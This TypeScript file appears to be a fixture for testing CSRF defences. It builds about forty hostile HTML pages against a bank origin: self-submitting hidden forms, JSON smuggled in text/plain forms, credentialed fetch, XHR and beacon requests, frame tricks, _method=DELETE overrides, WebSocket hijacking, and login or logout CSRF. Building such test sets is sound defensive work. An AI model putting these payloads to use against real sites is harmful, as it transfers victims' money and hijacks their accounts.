/** A page that attacks a bank: its markup, and what it does there if nobody stops it. */
export interface Attack {
  readonly name: string
  /** @param bank origin of the bank */
  readonly page: (bank: string) => string
  readonly does: string
  /**
   * Whether it works from another site too: where a browser lets no cookie travel to a third party, only what leaves the
   * page does, and what needs no cookie. From a sibling sub-domain all do.
   */
  readonly across: boolean
}

const MOVED = 'moved 5000 to 666 by POST'
const fields = '<input type="hidden" name="amount" value="5000"><input type="hidden" name="toAccount" value="666">'
const go = '<script>document.forms[0].submit()</script>'
/** The bank form of the textbooks. */
const form = (bank: string, attributes = '', content = fields, path = '/transfer'): string =>
  `<form method="post" action="${bank}${path}" ${attributes}>${content}</form>${go}`
const quoted = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;')
const script = (code: string): string => `<script>${code}</script>`
const simple = "method: 'POST', mode: 'no-cors', credentials: 'include'"
const urlencoded = "new URLSearchParams({ amount: '5000', toAccount: '666' })"
const json = `'{"amount":"5000","toAccount":"666"}'`
const parts =
  "(() => { const form = new FormData(); form.set('amount', '5000'); form.set('toAccount', '666'); return form })()"

const attack = (name: string, page: Attack['page'], does: string = MOVED, across = false): Attack => ({
  name,
  page,
  does,
  across,
})
const leaving = (name: string, page: Attack['page'], does: string = MOVED): Attack => attack(name, page, does, true)
const closing = (name: string, page: (url: string) => string, across = false): Attack =>
  attack(name, (bank) => page(`${bank}/account?_method=DELETE`), 'closed the account', across)
const leavingTo = (name: string, page: (url: string) => string): Attack => closing(name, page, true)

/** Each works on a bank that asks for the session alone. */
export const attacks: readonly Attack[] = [
  leaving('a hidden form that sends itself', (bank) => form(bank)),
  attack('a form in a frame nobody sees', (bank) => `<iframe name="f" hidden></iframe>${form(bank, 'target="f"')}`),
  leaving('a form of parts', (bank) => form(bank, 'enctype="multipart/form-data"')),
  leaving('a form of text that is JSON', (bank) =>
    form(
      bank,
      'enctype="text/plain"',
      `<input name="${quoted('{"amount":"5000","toAccount":"666","x":"')}" value="${quoted('"}')}">`,
    ),
  ),
  leaving('a form without a referrer', (bank) => `<meta name="referrer" content="no-referrer">${form(bank)}`),
  leaving(
    'a button with an address of its own',
    (bank) =>
      `<form method="post" action="/nowhere">${fields}<button formaction="${bank}/transfer"></button></form>
     ${script('document.querySelector("button").click()')}`,
  ),
  attack(
    'a form in a sandboxed frame',
    (bank) => `<iframe sandbox="allow-scripts allow-forms" srcdoc="${quoted(form(bank))}"></iframe>`,
  ),
  attack('a form in a frame of its own markup', (bank) => `<iframe srcdoc="${quoted(form(bank))}"></iframe>`),
  attack(
    'a form in a frame of data',
    (bank) => `<iframe src="data:text/html,${encodeURIComponent(form(bank))}"></iframe>`,
  ),
  attack('a form in a frame of a blob', (bank) =>
    script(
      `const frame = document.createElement('iframe')
       frame.src = URL.createObjectURL(new Blob([${JSON.stringify(form(bank)).replaceAll('</', '<\\/')}], { type: 'text/html' }))
       document.documentElement.append(frame)`,
    ),
  ),
  leaving('a form that names a harmless method', (bank) =>
    form(bank, '', `${fields}<input type="hidden" name="_method" value="GET">`),
  ),
  leaving('a form with a harmless method in its address', (bank) => form(bank, '', fields, '/transfer?_method=GET')),
  leaving(
    'a form that is redirected',
    (bank) => `<form method="post" action="/on?to=${encodeURIComponent(`${bank}/transfer`)}">${fields}</form>${go}`,
  ),
  attack('a fetch as a form sends it', (bank) =>
    script(`fetch('${bank}/transfer', { ${simple}, body: ${urlencoded} })`),
  ),
  attack('a fetch of text that is JSON', (bank) => script(`fetch('${bank}/transfer', { ${simple}, body: ${json} })`)),
  attack('a fetch without a type', (bank) =>
    script(`fetch('${bank}/transfer', { ${simple}, body: new Blob([${json}]) })`),
  ),
  attack('a fetch of bytes', (bank) =>
    script(`fetch('${bank}/transfer', { ${simple}, body: new TextEncoder().encode(${json}) })`),
  ),
  attack('a fetch of parts', (bank) => script(`fetch('${bank}/transfer', { ${simple}, body: ${parts} })`)),
  attack('a fetch that outlives its page', (bank) =>
    script(`fetch('${bank}/transfer', { ${simple}, keepalive: true, body: ${urlencoded} })`),
  ),
  attack('a fetch without a referrer', (bank) =>
    script(`fetch('${bank}/transfer', { ${simple}, referrerPolicy: 'no-referrer', body: ${urlencoded} })`),
  ),
  attack('a fetch that is redirected', (bank) =>
    script(`fetch('/on?to=' + encodeURIComponent('${bank}/transfer'), { ${simple}, body: ${urlencoded} })`),
  ),
  attack('an XMLHttpRequest', (bank) =>
    script(
      `const x = new XMLHttpRequest(); x.open('POST', '${bank}/transfer'); x.withCredentials = true; x.send(${urlencoded})`,
    ),
  ),
  attack('a beacon of text', (bank) => script(`navigator.sendBeacon('${bank}/transfer', ${json})`)),
  attack('a beacon of a form', (bank) => script(`navigator.sendBeacon('${bank}/transfer', ${urlencoded})`)),
  attack(
    'a link that tells who follows it',
    (bank) => `<a href="#" ping="${bank}/transfer">A prize</a>${script('document.querySelector("a").click()')}`,
    'moved ? to ? by POST',
  ),
  leavingTo(
    'a link that is followed',
    (url) => `<a href="${url}">A prize</a>${script('document.querySelector("a").click()')}`,
  ),
  closing('a picture', (url) => `<img src="${url}">`),
  closing('a script', (url) => `<script src="${url}"></script>`),
  closing('a style sheet', (url) => `<link rel="stylesheet" href="${url}">`),
  closing('a stream of events', (url) => script(`new EventSource('${url}', { withCredentials: true })`)),
  closing('a film', (url) => `<video src="${url}" autoplay></video>`),
  closing('an embedded document', (url) => `<object data="${url}"></object>`),
  closing('a prefetch', (url) => `<link rel="prefetch" href="${url}">`),
  closing('a frame', (url) => `<iframe src="${url}"></iframe>`),
  leavingTo('a page that moves on', (url) => `<meta http-equiv="refresh" content="0;url=${url}">`),
  leavingTo(
    'a form of the method GET',
    (url) => `<form action="${url.split('?')[0]}"><input name="_method" value="DELETE"></form>${go}`,
  ),
  attack('a WebSocket', (bank) => script(`new WebSocket('${bank.replace('https', 'wss')}/feed')`), 'read the feed'),
  leaving(
    'a form that signs in as the attacker',
    (bank) => form(bank, '', '<input name="user" value="mallory">', '/login'),
    'signed in as mallory',
  ),
  leaving(
    'a fetch that signs in as the attacker',
    (bank) => script(`fetch('${bank}/login', { ${simple}, body: new URLSearchParams({ user: 'mallory' }) })`),
    'signed in as mallory',
  ),
  leaving('a form that signs out', (bank) => form(bank, '', '', '/logout'), 'signed out'),
]
